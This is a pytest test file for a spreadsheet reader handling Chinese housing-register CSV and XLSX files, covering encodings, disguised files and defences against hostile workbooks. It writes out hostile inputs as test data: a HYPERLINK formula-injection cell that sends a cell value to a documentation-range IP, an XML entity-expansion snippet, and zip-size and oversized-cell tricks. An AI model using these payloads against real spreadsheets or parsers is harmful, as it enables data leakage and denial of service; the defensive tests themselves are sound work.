import zipfile
from datetime import date
from pathlib import Path

import pytest
import xlsxwriter

from gongdan.domain.cells import Cell
from gongdan.sheets.errors import (
    BrokenQuotes,
    DamagedFile,
    EmptyFile,
    EncryptedFile,
    FileTooLarge,
    MacroFile,
    SheetNotFound,
    UnreadableText,
    UnsafeXml,
    UnsupportedFile,
    WebPageFile,
    WorkbookTooLarge,
)
from gongdan.sheets.kinds import FileKind
from gongdan.sheets.limits import SheetLimits
from gongdan.sheets.reading import Sheet, open_sheet
from tests.core.sheets.workbook_files import CONTENT_TYPES, make_xlsx

DATA = Path(__file__).parents[2] / "data"
HEADINGS = ["楼栋", "单元", "房号"]


def cells_of(sheet: Sheet) -> list[list[Cell]]:
    return [list(cells) for _, cells in sheet.rows()]


# --- Text files ------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_a_text_file_is_read_in_every_encoding_that_offices_use(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "台账.csv"
    path.write_text("楼栋,单元,房号\r\n3栋,1单元,５０１\r\n\r\n", encoding=encoding, newline="")
    sheet = open_sheet(path)
    assert sheet.kind is FileKind.TEXT
    assert list(sheet.rows()) == [(1, HEADINGS), (2, ["3栋", "1单元", "５０１"]), (3, [])]
    assert next(sheet.rows()) == (1, HEADINGS)


@pytest.mark.parametrize("delimiter", [",", "\t", ";", "|"])
def test_the_delimiter_is_the_mark_that_stands_equally_often(tmp_path: Path, delimiter: str) -> None:
    path = tmp_path / "台账.txt"
    lines = ["小区房屋台账，共两套", delimiter.join(HEADINGS), delimiter.join(["3栋", "1", "漏水，已修"])]
    path.write_text("\n".join([*lines, *lines[2:] * 3]), encoding="utf-8")
    assert cells_of(open_sheet(path))[1] == HEADINGS


def test_a_text_that_fits_no_encoding_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_bytes("楼栋,房号\n".encode() + b"\xff\xff\x81\n")
    with pytest.raises(UnreadableText):
        open_sheet(path)


def test_the_encoding_can_be_named(tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_bytes("樓棟,房號".encode("big5"))
    assert cells_of(open_sheet(path, encoding="big5")) == [["樓棟", "房號"]]


def test_a_quote_that_is_never_closed_is_refused_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_text('楼栋,备注\n3栋,"漏水\n4栋,好\n', encoding="utf-8")
    sheet = open_sheet(path)
    with pytest.raises(BrokenQuotes) as refused:
        list(sheet.rows())
    assert refused.value.line == 3


def test_zero_bytes_are_no_text(tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_bytes(b"a,b\n" * 2000 + b"\x00\x01")
    with pytest.raises(UnsupportedFile):
        open_sheet(path)


def test_a_guarded_cell_loses_the_quote_that_was_put_before_it(tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_text("备注,说明\n'=1+1,''-x\n'单引号,'\n", encoding="utf-8")
    assert cells_of(open_sheet(path))[1:] == [["=1+1", "'-x"], ["'单引号", "'"]]


def test_too_many_columns_and_too_long_a_cell_are_refused(tmp_path: Path) -> None:
    wide, long = tmp_path / "宽.csv", tmp_path / "长.csv"
    wide.write_text(",".join("甲" * 600), encoding="utf-8")
    long.write_text("甲,乙\n" + "长" * 200_000, encoding="utf-8")
    for path in (wide, long):
        sheet = open_sheet(path)
        with pytest.raises(WorkbookTooLarge):
            list(sheet.rows())


# --- Files that are not what they seem -------------------------------------------------------


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(EmptyFile, match=r"空文件\."):
        open_sheet(DATA / "空文件.csv")


def test_a_file_that_was_cut_off_is_refused() -> None:
    with pytest.raises(DamagedFile, match=r"截断\."):
        open_sheet(DATA / "截断.xlsx")


def test_a_web_page_named_as_a_workbook_is_refused() -> None:
    with pytest.raises(WebPageFile, match=r"网页表格\."):
        open_sheet(DATA / "网页表格.xls")


def test_a_text_file_named_as_a_workbook_is_read_and_says_so() -> None:
    sheet = open_sheet(DATA / "其实是csv.xlsx")
    assert (sheet.kind, sheet.encoding) == (FileKind.TEXT, "gb18030")
    assert cells_of(sheet) == [["楼栋", "单元", "房号", "业主姓名"], ["8栋", "1单元", "101", "李测试"]]
    (remark,) = sheet.remarks
    assert remark.text.format(**remark.params) == "文件名以 .xlsx 结尾，内容其实是 csv，已按内容读取"


def test_a_workbook_named_as_a_text_file_is_read_and_says_so(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "台账.csv", "<row><c><v>1</v></c></row>")
    sheet = open_sheet(path)
    assert (sheet.kind, len(sheet.remarks)) == (FileKind.XLSX, 1)


def test_a_picture_or_another_document_is_refused(tmp_path: Path) -> None:
    picture, document = tmp_path / "a.csv", tmp_path / "b.xlsx"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    with zipfile.ZipFile(document, "w") as package:
        package.writestr("word/document.xml", "<w/>")
    for path in (picture, document):
        with pytest.raises(UnsupportedFile):
            open_sheet(path)


def test_text_that_looks_like_a_formula_comes_in_as_text() -> None:
    sheet = open_sheet(DATA / "公式注入.xlsx")
    remarks = [cells[5] for cells in cells_of(sheet)[1:]]
    assert remarks == ['=HYPERLINK("http://192.0.2.1/"&A1,"点我")', "+8613800000000", "-1+1", "正常备注"]


# --- Workbooks -------------------------------------------------------------------------------


def test_a_merged_cell_holds_for_each_of_its_rows_but_not_for_blank_ones(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("房屋")
        sheet.write_row(0, 0, HEADINGS)
        sheet.merge_range(1, 0, 4, 0, "3栋")
        for row, room in ((1, "501"), (2, "502"), (4, "504")):
            sheet.write(row, 2, room)
        sheet.merge_range(5, 0, 5, 2, "以上")
    assert cells_of(open_sheet(path))[1:] == [
        ["3栋", "", "501"],
        ["3栋", "", "502"],
        ["", "", ""],
        ["3栋", "", "504"],
        ["以上", "", ""],
    ]


def test_dates_are_dates_and_numbers_are_numbers(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        form = book.add_format({"num_format": "yyyy-mm-dd"})
        sheet.write_datetime(2, 1, date(2025, 3, 24), form)
        sheet.write_number(2, 2, 45740)
    assert list(open_sheet(path).rows()) == [(1, ["", "", ""]), (2, ["", "", ""]), (3, ["", date(2025, 3, 24), 45740])]


def test_the_first_visible_sheet_with_content_is_read_and_the_others_are_named(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet("说明")
        secret = book.add_worksheet("隐藏")
        secret.write(0, 0, "旧数据")
        book.add_worksheet("房屋").write_row(0, 0, HEADINGS)
        secret.hide()
    sheet = open_sheet(path)
    assert (sheet.name, sheet.sheet_names) == ("房屋", ("说明", "隐藏", "房屋"))
    assert "说明、隐藏" in sheet.remarks[0].text.format(**sheet.remarks[0].params)
    assert cells_of(open_sheet(path, sheet="隐藏")) == [["旧数据"]]
    with pytest.raises(SheetNotFound, match="说明、隐藏、房屋"):
        open_sheet(path, sheet="车位")
    with pytest.raises(EmptyFile):
        open_sheet(path, sheet="说明")


def test_a_real_formula_comes_in_by_its_result_or_as_its_text_and_is_remarked(tmp_path: Path) -> None:
    rows = (
        '<row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="str"><f>HYPERLINK("http://192.0.2.1")</f>'
        '<v>点我</v></c><c r="C1"><f>A1*3</f></c><c r="D1" t="e"><v>#N/A</v></c></row>'
    )
    sheet = open_sheet(make_xlsx(tmp_path / "公式.xlsx", rows))
    assert cells_of(sheet) == [[2, "点我", "=A1*3", ""]]
    texts = [remark.text.format(**remark.params) for remark in sheet.remarks]
    assert texts[0].startswith("3 个单元格是公式，第一个在 A1")
    assert texts[1].startswith("1 个单元格是错误值")


def test_a_workbook_that_counts_from_1904_says_so(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "旧.xlsx", "<row><c><v>44278</v></c></row>", from_1904=True)
    assert open_sheet(path).facts.from_1904 is True


# --- Attacks ---------------------------------------------------------------------------------


def test_an_entity_in_any_part_is_refused(tmp_path: Path) -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    for part in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"):
        path = make_xlsx(tmp_path / "实体.xlsx", "", doctype_in=part, doctype=bomb)
        with pytest.raises(UnsafeXml):
            open_sheet(path)


def test_one_cell_of_200_megabytes_is_refused(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "长.xlsx", f'<row><c t="inlineStr"><is><t>{"A" * 190_000_000}</t></is></c></row>')
    assert path.stat().st_size < 1_000_000
    with pytest.raises(WorkbookTooLarge):
        open_sheet(path)


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "大.xlsx", "<row/>" * 1000)
    with pytest.raises(WorkbookTooLarge, match="字节数"):
        open_sheet(path, limits=SheetLimits(unpacked_bytes=1000))


def test_a_size_that_the_directory_understates_is_found_while_reading(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "假.xlsx", "<row><c><v>1</v></c></row>" * 5000)
    content = path.read_bytes()
    with zipfile.ZipFile(path) as package:
        size = package.getinfo("xl/worksheets/sheet1.xml").file_size
    path.write_bytes(content.replace(size.to_bytes(4, "little"), (500).to_bytes(4, "little")))
    with pytest.raises(DamagedFile):
        open_sheet(path)


def test_two_cells_at_the_corners_of_the_sheet_are_refused(tmp_path: Path) -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="CV1048576"><v>1</v></c></row>'
    with pytest.raises(WorkbookTooLarge, match="单元格数"):
        open_sheet(make_xlsx(tmp_path / "角.xlsx", rows))
    with pytest.raises(WorkbookTooLarge, match="列数"):
        open_sheet(make_xlsx(tmp_path / "宽.xlsx", '<row r="1"><c r="XFD1"><v>1</v></c></row>'))


def test_borders_down_to_the_last_row_are_no_content(tmp_path: Path) -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576" s="1"/></row>'
    assert cells_of(open_sheet(make_xlsx(tmp_path / "线.xlsx", rows))) == [[1]]


def test_one_long_text_that_many_cells_share_is_refused(tmp_path: Path) -> None:
    cells = "".join(f'<row><c t="s"><v>0</v></c><c t="s"><v>{index % 2}</v></c></row>' for index in range(3000))
    texts = f"<si><t>{'长' * 30_000}</t></si><si><t>短</t></si>"
    path = make_xlsx(tmp_path / "共享.xlsx", cells, shared=texts)
    with pytest.raises(WorkbookTooLarge, match="字数"):
        open_sheet(path)
    few = cells.replace("<v>0</v>", "<v>1</v>")
    assert len(cells_of(open_sheet(make_xlsx(tmp_path / "少.xlsx", few, shared=texts)))) == 3000


def test_a_workbook_with_a_program_or_a_password_is_refused(tmp_path: Path) -> None:
    macro = tmp_path / "宏.xlsx"
    with zipfile.ZipFile(macro, "w") as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("xl/vbaProject.bin", b"\x00")
    with pytest.raises(MacroFile):
        open_sheet(macro)
    locked = tmp_path / "密码.xlsx"
    locked.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000) + "EncryptedPackage".encode("utf-16-le"))
    with pytest.raises(EncryptedFile):
        open_sheet(locked)


def test_a_file_above_the_limit_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "大.csv"
    path.write_bytes(b"a,b\n" * 1000)
    with pytest.raises(FileTooLarge):
        open_sheet(path, limits=SheetLimits(file_bytes=3000))


def test_a_package_with_two_parts_of_one_name_is_refused(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path / "重名.xlsx", "<row/>")
    with zipfile.ZipFile(path, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    with pytest.raises(DamagedFile):
        open_sheet(path)


def test_a_missing_shared_text_is_damage_and_no_stack_trace(tmp_path: Path) -> None:
    with pytest.raises(DamagedFile):
        open_sheet(make_xlsx(tmp_path / "缺.xlsx", '<row><c t="s"><v>7</v></c></row>'))
